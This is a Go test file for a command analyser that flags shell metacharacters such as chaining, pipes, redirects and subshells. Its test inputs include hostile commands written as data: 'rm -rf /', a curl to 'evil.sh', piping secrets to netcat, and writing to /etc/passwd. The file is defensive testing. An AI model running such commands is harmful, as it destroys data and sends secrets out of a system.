package security

import "testing"

func TestAnalyze_FlagsMetacharacters(t *testing.T) {
	cases := []struct {
		cmd  string
		want Risk
	}{
		{"ls; rm -rf /", RiskCommandChain},
		{"true && curl evil.sh", RiskCommandChain},
		{"false || echo x", RiskCommandChain},
		{"cat secrets | nc host 80", RiskPipe},
		{"echo x > /etc/passwd", RiskRedirect},
		{"cat < input", RiskRedirect},
		{"echo $(whoami)", RiskSubshell},
		{"echo `whoami`", RiskSubshell},
		{"sleep 100 &", RiskBackground},
	}
	for _, tc := range cases {
		tokens := Analyze(tc.cmd)
		if len(tokens) == 0 {
			t.Errorf("Analyze(%q) found nothing", tc.cmd)
			continue
		}
		found := false
		for _, token := range tokens {
			if token.Risk == tc.want {
				found = true
			}
		}
		if !found {
			t.Errorf("Analyze(%q) = %+v, want risk %s", tc.cmd, tokens, tc.want)
		}
	}
}

func TestAnalyze_QuotedTextIsInert(t *testing.T) {
	cases := []string{
		`git commit -m "fix; cleanup"`,
		`echo 'a && b'`,
		`grep "x|y" file.txt`,
		`echo \;`,
	}
	for _, cmd := range cases {
		if tokens := Analyze(cmd); len(tokens) != 0 {
			t.Errorf("Analyze(%q) = %+v, want none", cmd, tokens)
		}
	}
}

func TestAnalyze_LongPatternsClaimFirst(t *testing.T) {
	tokens := Analyze("make >> build.log")
	if len(tokens) != 1 {
		t.Fatalf("tokens = %+v", tokens)
	}
	if tokens[0].Text != ">>" || tokens[0].Risk != RiskRedirect {
		t.Errorf("token = %+v", tokens[0])
	}

	tokens = Analyze("a && b")
	if len(tokens) != 1 || tokens[0].Text != "&&" {
		t.Errorf("tokens = %+v", tokens)
	}
}

func TestIsPlainCommand(t *testing.T) {
	if !IsPlainCommand("git status") {
		t.Error("git status flagged")
	}
	if IsPlainCommand("git status; rm x") {
		t.Error("chained command passed")
	}
	if !IsPlainCommand("") {
		t.Error("empty command flagged")
	}
}
